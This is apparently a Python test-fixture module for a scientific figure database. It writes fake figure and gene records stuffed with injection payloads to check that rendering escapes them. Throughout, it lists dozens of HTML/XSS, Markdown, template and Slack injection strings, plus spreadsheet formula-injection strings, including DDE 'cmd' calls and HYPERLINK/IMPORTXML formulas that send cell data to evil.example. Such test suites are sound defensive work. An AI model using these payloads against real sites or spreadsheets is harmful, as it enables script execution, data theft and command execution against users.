"""Texts that try to become part of a page, of a table or of a message; where one succeeds, it leaves a mark.

What runs sets ``window.pwned``, what becomes an element has the class ``pwned``, and what is fetched is fetched from
``evil.example``.
"""

from __future__ import annotations

from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml

RUN = "window.pwned=1"

MARKUP: Mapping[str, str] = {
    # elements that run something
    "script": f"<script class=pwned>{RUN}</script>",
    "script, upper case": f"<SCRIPT CLASS=pwned>{RUN}</SCRIPT >",
    "script from elsewhere": "<script class=pwned src=//evil.example/x.js></script>",
    "script in two halves": f"<scr<script>ipt class=pwned>{RUN}</scr</script>ipt>",
    "script with a slash": f"<script/class=pwned>{RUN}</script>",
    "module": f'<script type="module" class="pwned">{RUN}</script>',
    "end of a script": f"</script><script class=pwned>{RUN}</script>",
    "end of a style": f"</style><img class=pwned src=x onerror={RUN}>",
    "end of a title": f"</title><svg class=pwned onload={RUN}>",
    "end of a textarea": f"</textarea><img class=pwned src=x onerror={RUN}>",
    "end of a comment": f"--><img class=pwned src=x onerror={RUN}><!--",
    "character data": f"<![CDATA[<img class=pwned src=x onerror={RUN}>]]>",
    # event handlers
    "image that fails": f"<img class=pwned src=x onerror={RUN}>",
    "image with slashes": f"<img/class=pwned/src=x/onerror={RUN}//",
    "picture that loads": f"<img class=pwned src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={RUN}>",
    "drawing": f"<svg class=pwned onload={RUN}></svg>",
    "drawing with a script": f"<svg class=pwned><script>{RUN}</script></svg>",
    "drawing that is animated": f"<svg class=pwned><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "drawing that sets a link": f'<svg class=pwned><a xlink:href="javascript:{RUN}"><text x=9 y=9>go</text></a></svg>',
    "drawing with a foreign object": f"<svg class=pwned><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "formula": f'<math class=pwned><maction actiontype="statusline#http://evil.example" xlink:href="javascript:{RUN}">',
    "formula that changes its kind": f"<math><mtext><table><mglyph><style><img class=pwned src=x onerror={RUN}>",
    "details": f"<details class=pwned open ontoggle={RUN}><summary>x</summary></details>",
    "video": f"<video class=pwned><source onerror={RUN}></video>",
    "sound": f"<audio class=pwned src=x onerror={RUN}></audio>",
    "field with the focus": f"<input class=pwned autofocus onfocus={RUN}>",
    "choice with the focus": f"<select class=pwned autofocus onfocus={RUN}></select>",
    "marquee": f"<marquee class=pwned onstart={RUN}>x</marquee>",
    "body": f"<body class=pwned onload={RUN}>",
    "own element": f"<x-pwned class=pwned tabindex=1 onfocus={RUN} autofocus>x</x-pwned>",
    "button of the page": '<button class="pfc-act pwned" name="ask" value="x">Click</button>',
    # documents and links
    "frame": "<iframe class=pwned src=//evil.example></iframe>",
    "frame of its own text": f'<iframe class=pwned srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame of a script": f"<iframe class=pwned src=javascript:parent.{RUN}></iframe>",
    "object": f"<object class=pwned data=javascript:{RUN}></object>",
    "embedded": "<embed class=pwned src=//evil.example/x.swf>",
    "form": "<form class=pwned action=//evil.example><input name=q><button>Log in</button></form>",
    "link": f'<a class=pwned href="javascript:{RUN}">x</a>',
    "link with a line end": f'<a class=pwned href="java&#10;script:{RUN}">x</a>',
    "link to data": f'<a class=pwned href="data:text/html,<script>{RUN}</script>">x</a>',
    "base": '<base class=pwned href="//evil.example/">',
    "another page": '<meta class=pwned http-equiv="refresh" content="0;url=//evil.example">',
    "style": "<style class=pwned>*{background:url(//evil.example/s)}</style>",
    "style sheet": "<link class=pwned rel=stylesheet href=//evil.example/s.css>",
    "template": f"<template class=pwned><img src=x onerror={RUN}></template>",
    # out of an attribute
    "double quotes": f'"><img class=pwned src=x onerror={RUN}>',
    "single quotes": f"'><img class=pwned src=x onerror={RUN}>",
    "handler, double quotes": f'" class="pwned" autofocus onfocus="{RUN}" x="',
    "handler, single quotes": f"' class='pwned' autofocus onfocus='{RUN}' x='",
    "handler, without quotes": f" class=pwned onmouseover={RUN} ",
    "backtick": f"` onerror={RUN} class=pwned `",
    # entities
    "entities": f"&lt;img class=pwned src=x onerror={RUN}&gt;",
    "entities twice": f"&amp;lt;img class=pwned src=x onerror={RUN}&amp;gt;",
    "numbers": f"&#60;img class=pwned src=x onerror={RUN}&#62;",
    "full-width": f"＜img class=pwned src=x onerror={RUN}＞",
    "line ends": f"a&#10;&#10;<img class=pwned src=x onerror={RUN}>",
    # Markdown and templates
    "Markdown link": f"[PFOCR page](javascript:{RUN})",
    "Markdown link elsewhere": "[PFOCR page](http://evil.example/login)",
    "Markdown picture": "![figure](http://evil.example/t.png?q=secret)",
    "Markdown picture with a handler": f'![x](x"onerror="{RUN})',
    "Markdown reference": "[1]: http://evil.example/t 'x'\n\n[1] ![x][1]",
    "Markdown address": "<http://evil.example/auto>",
    "Markdown fence": f"```\n</code></pre><img class=pwned src=x onerror={RUN}>\n```",
    "Markdown table": f"| a |\n|---|\n| <img class=pwned src=x onerror={RUN}> |",
    "template of a page": f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} <%= {RUN} %> #{{{RUN}}}",
    "LaTeX": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={RUN}>}}$$",
    # Slack
    "Slack: everybody": "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD|general>",
    "Slack: link": "<http://evil.example|PFOCR page>",
}

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    '" =1+1',
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    "x;=1+1",
    "x; =1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n@SUM(1)",
    'x;"=1+1',
    "\x00=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
)


class Elements(HTMLParser):
    """The elements of some HTML as a browser would make them, each with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def figid_of(number: int) -> str:
    """The figid of the record that holds payload ``number``."""
    return f"PMC{9_500_000 + number}__payload.g{number:03}"


COMMON = "RIPK3"
"""A gene that every one of these figures prints."""


def write_payload_records(folder: Path, payloads: list[str]) -> Path:
    """A record for each payload, which stands in every field of it that may hold any text; returns ``folder``."""
    (folder / "_figures").mkdir(parents=True)
    (folder / "_data").mkdir()
    for number, payload in enumerate(payloads):
        figid = figid_of(number)
        line = " ".join(payload.split())
        matter: dict[str, Any] = {
            "figid": figid,
            "pmcid": figid.partition("__")[0],
            "figtitle": f"{payload} in necroptosis {number}",
            "caption": f"{COMMON} drives necroptosis {payload} of cells in sample {number}. {payload}",
            "papertitle": f"{payload} and necroptosis",
            "journal_title": f"Journal of {payload}",
            "reftext": f"Byron A. {payload}. 2020;1:1.",
            "number": f"Figure {payload}",
            "figtype": payload,
            "filename": payload,
            "figlink": payload,
            "doi": f"10.1234/{line.replace(' ', '')}",
            "year": "2020",
            "keywords": [payload],
            "organisms": [f"Mus {payload}"],
        }
        text = yaml.safe_dump(matter, allow_unicode=True, sort_keys=False)
        (folder / "_figures" / f"{figid}.md").write_text(f"---\n{text}---\n", encoding="utf-8")
        rows = ["word\tncbigene_symbol\tsource\tncbigene_id", f"{COMMON}\t{COMMON}\tncbigene_symbol\t1"]
        rows.append(f"{line}\t{line}\tncbigene_symbol\t{number + 2}")
        (folder / "_data" / f"{figid}-genes.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")
        others = f"word\tname\tmesh\n{line}\t{line}\tD{number}\n"
        for kind in ("chemicals", "diseases"):
            (folder / "_data" / f"{figid}-{kind}.tsv").write_text(others, encoding="utf-8")
    return folder
